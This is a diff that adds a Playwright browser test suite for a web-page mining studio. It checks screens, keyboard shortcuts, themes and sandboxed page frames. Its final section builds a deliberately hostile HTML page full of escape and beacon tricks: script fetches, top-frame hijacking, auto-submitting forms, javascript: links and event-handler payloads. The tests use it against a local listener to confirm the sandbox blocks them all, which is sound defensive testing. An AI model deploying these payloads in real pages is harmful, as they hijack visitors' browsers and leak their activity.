@@ -1,0 +1,362 @@
+"""The studio in a real Chromium: the main flows, keys, sizes, and pages that try to get out of their frame."""
+
+import json
+import threading
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+from playwright.sync_api import expect
+from running_studio import served
+
+from sitelode.model import Fetched
+from sitelode.output.result import write_result
+from sitelode.pipeline import mine
+from sitelode.studio import app as studio_app
+from sitelode.studio.desk import Desk
+
+SCREENS = ["site", "clusters", "cluster/0", "compare", "page", "records", "curves/0"]
+
+
+@contextmanager
+def window(browser, keys, **about):
+    """A window of its own; errors on its console fail the test."""
+    context = browser.new_context(**{"viewport": {"width": 1300, "height": 800}, **about})
+    context.set_default_timeout(20_000)
+    page, errors = context.new_page(), []
+    page.on("pageerror", lambda error: errors.append(f"{error} {error.stack}"))
+    page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
+    page.base = keys.address
+    yield page
+    context.close()
+    assert not errors
+
+
+def frame_of(page):
+    """The sandboxed frame of a screen, once it shows a page."""
+    page.locator(".frame-box:not(.loading) iframe").wait_for()
+    return page.frame_locator(".frame-box iframe")
+
+
+@pytest.mark.parametrize(("width", "scheme"), [(900, "dark"), (1400, "light")])
+def test_every_screen_fits_and_has_its_own_address(browser, studio, width, scheme):
+    with window(browser, studio, viewport={"width": width, "height": 720}, color_scheme=scheme) as page:
+        page.goto(page.base)
+        for screen in SCREENS:
+            page.goto(page.base + screen)
+            page.locator("main > .screen").wait_for()
+            name = screen.split("/")[0]
+            expect(page.locator(f"nav.screens a[data-screen={name}]")).to_have_attribute("aria-current", "page")
+            assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), f"{screen} is wider than the window"
+            assert page.evaluate("document.documentElement.scrollHeight <= innerHeight"), f"{screen} scrolls as a whole"
+            assert f"/{name}" in page.url
+
+
+def test_from_cards_over_the_template_to_an_article(browser, studio):
+    with window(browser, studio) as page:
+        page.goto(page.base + "clusters")
+        expect(page.locator("a.card")).to_have_count(8)
+        page.locator(".card img").first.evaluate("image => image.decode()")
+        page.locator("a.card").first.click()
+        expect(page.locator("h1", has_text="Layout 0")).to_be_visible()
+        consensus = frame_of(page).locator("a.s9, a.s10").count()
+        assert consensus > 3
+        page.locator(".chip", has_text="leaf-difference").click()
+        expect(page.locator(".chip", has_text="leaf-difference")).to_contain_text("%")
+        assert "voices=consensus%2Cleaf-difference" in page.url
+        page.locator(".column .row").nth(2).click()
+        page.get_by_text("Article ›").click()
+        expect(page.locator("article.article h1")).not_to_be_empty()
+        page.go_back()
+        expect(page.locator("h1", has_text="Layout 0")).to_be_visible()
+
+
+def test_the_slider_groups_pages_anew(browser, studio):
+    with window(browser, studio) as page:
+        page.goto(page.base + "clusters")
+        expect(page.locator(".facts")).to_contain_text("8 layouts")
+        page.locator("input[type=range]").fill("0.95")
+        expect(page.locator(".facts")).not_to_contain_text("8 layouts")
+        assert "threshold=0.95" in page.url
+        page.get_by_role("button", name="As mined").click()
+        expect(page.locator(".facts")).to_contain_text("8 layouts")
+
+
+def test_a_tag_that_no_longer_counts_changes_both_trees_at_once(browser, studio):
+    with window(browser, studio) as page:
+        page.goto(page.base + "compare")
+        expect(page.locator(".facts")).to_contain_text("similarity")
+        size = page.locator(".tree .extent").first.bounding_box()["height"]
+        assert page.locator(".tree .row.common").count() > 10
+        page.get_by_label("keep li", exact=True).uncheck()
+        page.wait_for_url("**tag.li=ignore*")
+        page.wait_for_function("before => document.querySelector('.tree .extent').offsetHeight < before", arg=size)
+        expect(page.get_by_label("keep li", exact=True)).to_be_focused()
+        page.locator(".tree .row.common").nth(5).hover()
+        expect(page.locator(".tree .row.partner")).to_have_count(2)
+
+
+def test_regions_point_into_the_page_without_loading_it_again(browser, studio):
+    with window(browser, studio) as page:
+        page.goto(page.base + "page?tab=regions")
+        page.locator(".role.body").first.wait_for()
+        frame_of(page).locator("a.body").first.wait_for()
+        loads = []
+        page.on("request", lambda request: loads.append(request.url) if "/page/" in request.url and "view=" in request.url else None)
+        row = page.locator(".row", has_text="body with probability").filter(has=page.locator(".role.body")).first
+        row.hover()
+        expect(frame_of(page).locator(":target")).to_have_count(1)
+        assert not loads
+
+
+def test_the_record_under_the_mouse_is_outlined_in_the_page(browser, studio):
+    with window(browser, studio) as page:
+        page.goto(page.base + "records")
+        frame_of(page)
+        page.locator("tbody tr").nth(3).hover()
+        target = frame_of(page).locator(":target")
+        expect(target).to_have_count(1)
+        words = page.locator("tbody tr").nth(3).locator("td").nth(3).inner_text().rstrip("…")[:12]
+        assert words in target.inner_text()
+        page.keyboard.press("j")
+        expect(frame_of(page).locator("#r4:target")).to_have_count(1)
+
+
+def test_curves_are_drawn(browser, studio):
+    with window(browser, studio) as page:
+        page.goto(page.base + "curves/0")
+        expect(page.locator("figure.curve img")).to_have_count(4)
+        assert page.locator("figure.curve img").first.evaluate("async image => { await image.decode(); return image.naturalWidth }") > 100
+
+
+def test_the_map_leads_to_the_pages_of_a_section(browser, studio):
+    with window(browser, studio) as page:
+        page.goto(page.base + "site")
+        page.locator(".map .knot").nth(1).wait_for()
+        lines = page.locator(".map .line").count()
+        page.get_by_role("button", name="Before the cut").click()
+        assert page.locator(".map .line").count() > lines
+        page.locator(".map .knot").nth(1).locator("rect").click()
+        assert "section=1" in page.url
+        expect(page.get_by_role("button", name="Whole site")).to_be_enabled()
+        page.locator(".virtual .row").first.click()
+        expect(page.locator("nav.screens a[data-screen=site]")).not_to_have_attribute("aria-current", "page")
+
+
+def test_a_click_corrects_keys_say_what_and_one_click_undoes(browser, own_desk):
+    with served(own_desk) as keys, window(browser, keys) as page:
+        page.goto(page.base + "page")
+        frame = frame_of(page)
+        body = frame.locator("p a.body").first
+        words = body.inner_text()[:30]
+        expect(page.locator("article.article .body")).to_contain_text(words)
+        body.click()
+        expect(page.locator(".picker")).to_contain_text(words)
+        page.keyboard.press("n")
+        expect(page.locator(".picker")).to_be_hidden()
+        expect(page.locator("article.article .body")).not_to_contain_text(words)
+        undo = page.get_by_role("button", name="Undo (1)")
+        undo.click()
+        expect(page.locator("article.article .body")).to_contain_text(words)
+        expect(page.get_by_role("button", name="Undo", exact=True)).to_be_disabled()
+        log = json.loads((own_desk.folder / "corrections.json").read_text(encoding="utf-8"))["log"]
+        assert [entry.get("role", "undo") for entry in log] == ["not content", "undo"]
+
+
+def test_keys_reach_every_screen(browser, studio):
+    with window(browser, studio) as page:
+        page.goto(page.base + "clusters")
+        page.locator("a.card").first.wait_for()
+        for key, name in enumerate(["site", "clusters", "cluster", "compare", "page", "records", "curves"], start=1):
+            page.keyboard.press(str(key))
+            expect(page.locator(f"nav.screens a[data-screen={name}]")).to_have_attribute("aria-current", "page")
+        page.keyboard.press("?")
+        expect(page.locator("dialog")).to_be_visible()
+        page.keyboard.press("Escape")
+        page.keyboard.press("3")
+        page.locator(".column .row").first.wait_for()
+        page.keyboard.press("/")
+        expect(page.locator("input[type=search]")).to_be_focused()
+        page.keyboard.type("walrus")
+        expect(page.locator(".cluster-columns > .column").first.locator(".row")).to_have_count(1)
+
+
+def test_the_theme_can_be_chosen(browser, studio):
+    with window(browser, studio, color_scheme="light") as page:
+        page.goto(page.base + "page")
+        frame_of(page)
+        button = page.get_by_label("Theme")
+        button.click()
+        button.click()
+        assert page.evaluate("getComputedStyle(document.body).colorScheme") == "dark"
+        assert frame_of(page).locator("html").get_attribute("style") == "color-scheme:dark"
+        page.reload()
+        assert page.evaluate("document.documentElement.dataset.theme") == "dark"
+
+
+def test_ten_thousand_pages_stay_few_elements(browser, studio):
+    def answer(route):
+        query = dict(pair.split("=") for pair in route.request.url.split("?")[1].split("&"))
+        start, count = int(query["start"]), int(query["count"])
+        pages = [
+            {"page": 1, "url": f"https://a.example/{n}", "cluster": 0, "kind": "", "article": None} for n in range(start, start + count)
+        ]
+        route.fulfill(json={"total": 10_000, "start": start, "pages": pages})
+
+    with window(browser, studio) as page:
+        page.route("**/api/pages?*", answer)
+        page.goto(page.base + "cluster/0")
+        pages = page.locator(".cluster-columns > .column").first
+        expect(pages.locator(".row").first).to_contain_text("/0")
+        pages.locator(".virtual").evaluate("list => { list.scrollTop = list.scrollHeight }")
+        expect(pages.locator(".row", has_text="/9999").first).to_be_visible()
+        assert pages.locator(".row").count() < 60
+
+
+def test_a_source_is_mined_while_one_watches(browser, tmp_path):
+    words = "The harbour was quiet and the ferry late, said the keeper of the light, who had seen it all before. "
+    pages = "".join(
+        json.dumps(
+            {"url": f"https://made.example/{n}", "html": f"<title>Story {n}</title><h1>Story {n}</h1><p>{f'Story {n}: ' + words * 3}"}
+        )
+        + "\n"
+        for n in range(12)
+    )
+    (tmp_path / "site.jsonl").write_text(pages, encoding="utf-8")
+    desk = Desk(tmp_path / "site.jsonl", tmp_path / "out")
+    with served(desk) as keys, window(browser, keys) as page:
+        page.goto(page.base + "clusters")
+        expect(page.locator(".opening")).to_contain_text("Opening")
+        desk.start()
+        expect(page.locator("a.card").first).to_contain_text("12 pages")
+        expect(page.locator("footer")).to_contain_text("12 pages, 1 layout")
+    desk.close()
+    assert (tmp_path / "out" / "articles.jsonl").is_file()
+
+
+class Listener(BaseHTTPRequestHandler):
+    """Whoever asks here got out."""
+
+    def do_GET(self):
+        self.server.asked.append(self.path)
+        self.send_response(200)
+        self.end_headers()
+
+    do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815 (the library's names)
+
+    def log_message(self, *_):
+        pass
+
+
+@pytest.fixture
+def outside():
+    with ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
+        server.asked = []
+        server.address = f"http://127.0.0.1:{server.server_port}"
+        thread = threading.Thread(target=server.serve_forever)
+        thread.start()
+        yield server
+        server.shutdown()
+        thread.join()
+
+
+def hostile(address, number):
+    """A page that tries everything it can think of to act, load, navigate or get out."""
+    return f"""<!doctype html><html><head><title>Hostile {number}</title><meta http-equiv=refresh content="0;url={address}/refresh"><base href="{address}/base/" target=_top>
+    <link rel=stylesheet href="{address}/style.css"><link rel=prefetch href="{address}/prefetch"><link rel=preload as=image href="{address}/preload"><link rel=dns-prefetch href="{address}">
+    <style>@import url({address}/import.css); body {{ background: url({address}/background) }} @font-face {{ font-family: x; src: url({address}/font) }} p {{ font-family: x }}</style>
+    <script>fetch("{address}/script"); top.location = "{address}/top"; parent.document.title = "stolen"; alert(1)</script><script src="{address}/script.js"></script></head>
+    <body onload="fetch('{address}/onload')" style="background:url({address}/inline)"><h1>Hostile page {number}</h1>
+    <img src="{address}/image" srcset="{address}/srcset 2x" onerror="fetch('{address}/onerror')"><picture><source srcset="{address}/source"><img src="{address}/picture"></picture>
+    <iframe src="{address}/frame"></iframe><iframe srcdoc="<script>fetch('{address}/srcdoc')</script>"></iframe><object data="{address}/object"></object><embed src="{address}/embed">
+    <video src="{address}/video" poster="{address}/poster" autoplay></video><audio src="{address}/audio" autoplay></audio><svg onload="fetch('{address}/svg')"><image href="{address}/svg-image"/><use href="{address}/use#x"/></svg>
+    <form id=f action="{address}/form" method=post target=_top><input name=a value=b autofocus onfocus="this.form.submit()"><button>Send</button></form><script>document.forms.f.submit()</script>
+    <a class=trap href="{address}/link" target=_top ping="{address}/ping">Click this link {number}</a> <a class=trap href="javascript:fetch('{address}/javascript')">And this one {number}</a>
+    <p id=g0 class="s10">A long paragraph of text number {number} that says nothing much, but says it at length, so that somebody reads the page and clicks on it to see what happens.</p>
+    <input type=image src="{address}/button"><table background="{address}/table"><tr><td background="{address}/cell">cell {number}</table><math><mtext><img src="{address}/math"></mtext></math>
+    <details open ontoggle="fetch('{address}/toggle')"><summary>More</summary></details><marquee onstart="fetch('{address}/marquee')">moving</marquee><template><img src="{address}/template"></template></body></html>"""
+
+
+@pytest.fixture
+def hostile_desk(outside, tmp_path):
+    pages = (Fetched(f"https://hostile.example/{n}", hostile(outside.address, n).encode(), origin=str(n)) for n in range(3))
+    write_result(mine(pages, folder=tmp_path / "mined"), tmp_path / "mined")
+    desk = Desk(tmp_path / "mined", tmp_path / "mined")
+    desk.start().result()
+    yield desk
+    desk.close()
+
+
+def try_everything(page):
+    dialogs = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    for screen in ("page/1", "cluster/0", "records/1"):
+        page.goto(page.base + screen)
+        frame = frame_of(page)
+        for words in ("Click this link", "And this one", "A long paragraph"):
+            target = frame.get_by_text(words).first
+            if target.count():
+                target.click()
+        page.wait_for_timeout(300)
+        assert page.url.startswith(page.base), "the window was led away"
+        assert "Sitelode studio" in page.title()
+    assert not dialogs
+
+
+def test_the_hostile_page_is_hostile(browser, outside):
+    """Without a studio around it, it does what it tries to."""
+    context = browser.new_context()
+    page = context.new_page()
+    page.on("dialog", lambda dialog: dialog.dismiss())
+    page.set_content(hostile(outside.address, 1), wait_until="commit")
+    page.wait_for_timeout(500)
+    context.close()
+
+    assert {"/script", "/top"} & set(outside.asked)
+
+
+def test_a_hostile_page_reaches_nobody(browser, hostile_desk, outside):
+    with served(hostile_desk) as keys, window(browser, keys) as page:
+        try_everything(page)
+
+    assert outside.asked == []
+
+
+def test_the_frame_holds_even_a_page_that_was_not_cleaned(browser, hostile_desk, outside, monkeypatch):
+    """What the sandbox and the policies are worth by themselves, were the writer of clean pages to fail."""
+    monkeypatch.setattr(studio_app, "frame_html", lambda *_: hostile(outside.address, 1))
+    context = browser.new_context(viewport={"width": 1300, "height": 800})
+    with served(hostile_desk) as keys:
+        page = context.new_page()
+        page.base = keys.address
+        page.goto(page.base + "page/1")
+        page.wait_for_timeout(800)
+        assert page.url.startswith(page.base)
+        assert "Sitelode studio" in page.title()
+        frame = page.frames[1]
+        assert frame.evaluate("1 + 1") == 2, "the driver can still look inside"
+        for trap in frame.locator("a.trap").all():
+            trap.click(timeout=3_000)
+            page.wait_for_timeout(200)
+            assert page.url.startswith(page.base)
+    context.close()
+    assert outside.asked == []
+
+
+def test_the_report_loads_nothing_and_runs_nothing(browser, hostile_desk, outside, tmp_path):
+    from sitelode.studio.report import site_report  # noqa: PLC0415
+
+    path = tmp_path / "report.html"
+    report = hostile_desk._quick.submit(lambda: "".join(site_report(hostile_desk))).result()
+    path.write_text(report, encoding="utf-8")
+    context = browser.new_context()
+    page, asked = context.new_page(), []
+    page.on("request", lambda request: asked.append(request.url) if not request.url.startswith(("file:", "data:")) else None)
+    page.goto(path.as_uri())
+    for frame in page.locator("iframe").all():
+        frame.scroll_into_view_if_needed()
+    expect(page.frame_locator("iframe").first.locator("h1")).to_contain_text("Hostile page")
+    assert page.locator("figure img").first.evaluate("async image => { await image.decode(); return image.naturalWidth }") > 0
+    context.close()
+    assert asked == []
+    assert outside.asked == []
